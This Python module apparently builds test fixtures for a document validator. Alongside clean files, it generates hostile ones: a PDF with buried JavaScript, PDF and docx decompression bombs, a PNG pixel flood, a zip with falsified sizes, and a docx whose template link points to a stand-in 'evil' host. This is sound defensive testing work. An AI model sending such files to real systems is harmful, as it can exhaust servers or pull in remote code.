"""Good and hostile files, made in memory."""

import struct
import zipfile
import zlib
from io import BytesIO

import pikepdf
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.serialization import pkcs7
from PIL import Image

from core.documents import seal_keys


def blank() -> pikepdf.Pdf:
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    return document


def saved(document: pikepdf.Pdf, **options) -> bytes:
    out = BytesIO()
    document.save(out, **options)
    return out.getvalue()


def plain_pdf() -> bytes:
    document = blank()
    # Word writes this on every export: a place to open at, not an action.
    document.Root.OpenAction = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])
    return saved(document)


def pdf_with(**root) -> bytes:
    document = blank()
    for key, value in root.items():
        document.Root[f"/{key}"] = value
    return saved(document)


def action(kind: str, **more) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)


def pdf_with_hidden_script() -> bytes:
    """A script in an object stream, three dictionaries deep, behind a button on the page."""
    document = blank()
    script = action("JavaScript", JS=pikepdf.String("app.alert(1)"))
    button = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9],
        A=action("GoTo", D=pikepdf.String("x"), Next=pikepdf.Array([script])),
    )  # fmt: skip
    document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(button)])
    return saved(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_attachment() -> bytes:
    document = blank()
    document.attachments["virus.exe"] = b"MZ"
    return saved(document)


def encrypted_pdf(password: str) -> bytes:
    return saved(blank(), encryption=pikepdf.Encryption(owner="owner", user=password))


def pdf_bomb() -> bytes:
    """An object stream of two megabytes that unpacks to two gigabytes of spaces."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(b" " * 1024 * 1024) + packer.flush(zlib.Z_FULL_FLUSH)
    layer = b"\x78\xda" + block * 2000 + packer.flush()
    stream = (
        b"2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        + str(len(layer)).encode()
        + b" >>\nstream\n" + layer + b"\nendstream\nendobj\n"
    )  # fmt: skip
    body = b"%PDF-1.7\n" + stream
    entries = struct.pack(">BHB", 0, 0, 0) + struct.pack(">BHB", 2, 2, 0)
    entries += struct.pack(">BHB", 1, 9, 0) + struct.pack(">BHB", 1, len(body) & 0xFFFF, 0)
    table = (
        b"3 0 obj\n<< /Type /XRef /Size 4 /W [1 2 1] /Root 1 0 R /Length "
        + str(len(entries)).encode() + b" >>\nstream\n" + entries + b"\nendstream\nendobj\n"
    )  # fmt: skip
    return body + table + b"startxref\n" + str(len(body)).encode() + b"\n%%EOF\n"


def picture(kind: str, size: tuple[int, int] = (40, 30)) -> bytes:
    out = BytesIO()
    Image.new("RGB", size, "white").save(out, kind)
    return out.getvalue()


def pixel_flood() -> bytes:
    """A PNG of some bytes whose head promises 100 megapixels."""
    header = struct.pack(">IIBBBBB", 10_000, 10_000, 8, 2, 0, 0, 0)

    def chunk(name: bytes, data: bytes) -> bytes:
        check = zlib.crc32(name + data)
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", check)

    pixels = zlib.compress(b"\0" * 1000)
    parts = chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + parts


def archive(entries: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in entries.items():
            packed.writestr(name, content)
    return out.getvalue()


def office(main: str = "word/document.xml", **more: bytes) -> bytes:
    return archive({"[Content_Types].xml": b"<Types/>", main: b"<document/>"} | more)


def docx_bomb() -> bytes:
    return office(**{"word/media/image1.png": b"\0" * 150_000_000})


def docx_with_lying_sizes() -> bytes:
    """A part that unpacks to 80 MB and claims ten bytes."""
    content = bytearray(office(**{"word/media/image1.bmp": b"\0" * 80_000_000}))
    real, false = struct.pack("<I", 80_000_000), struct.pack("<I", 10)
    return bytes(content).replace(real, false)


def docx_with_remote_template() -> bytes:
    relation = (
        b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/attachedTemplate" Target="http://evil/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    return office(**{"word/_rels/settings.xml.rels": relation})


def cms_signature() -> bytes:
    place = seal_keys.folder()
    certificate = x509.load_pem_x509_certificate((place / seal_keys.CERTIFICATE).read_bytes())
    key = serialization.load_pem_private_key((place / seal_keys.KEY).read_bytes(), None)
    builder = pkcs7.PKCS7SignatureBuilder().set_data(b"text")
    builder = builder.add_signer(certificate, key, hashes.SHA256())  # type: ignore[arg-type]
    return builder.sign(serialization.Encoding.DER, [pkcs7.PKCS7Options.DetachedSignature])
